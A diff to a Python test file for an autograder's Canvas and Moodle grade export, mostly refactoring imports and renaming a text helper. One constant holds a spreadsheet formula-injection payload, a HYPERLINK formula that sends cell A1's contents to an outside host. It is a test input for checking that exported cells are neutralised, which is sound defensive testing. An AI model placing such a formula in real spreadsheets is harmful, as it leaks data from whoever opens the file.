@@ -14,10 +14,9 @@ from autograder.core.assignment import Assignment
 from autograder.core.errors import ExportRefused
 from autograder.course import CourseAssignment
 from autograder.nbgrader_adapter.course_settings.gradebook import recorded_beside
-from autograder.report.lms.canvas import Canvas
-from autograder.report.lms.csv_cells import identifier, text, write
-from autograder.report.lms.moodle import Moodle
+from autograder.report.lms.grade_files import Canvas, Moodle, write
 from autograder.report.lms.sheets import LmsStudent, Mark, PartMark, Sheet, Table, one_mark
+from autograder.report.plain_text import cell_text, identifier
 
 EXPORTS = "autograder.nbgrader_adapter.exports"
 EVIL = '=HYPERLINK("http://example.org?"&A1)'
@@ -148,7 +147,7 @@ def test_a_wrong_wish_is_one_sentence(
 @pytest.mark.parametrize("cell", FORMULAS)
 def test_no_text_is_computed_and_no_identifier_is_changed(cell: str) -> None:
     """Text gets an apostrophe; an identifier that would need one is left out."""
-    assert text(cell).startswith("'")
+    assert cell_text(cell).startswith("'")
     assert identifier(cell) == ""
 
 
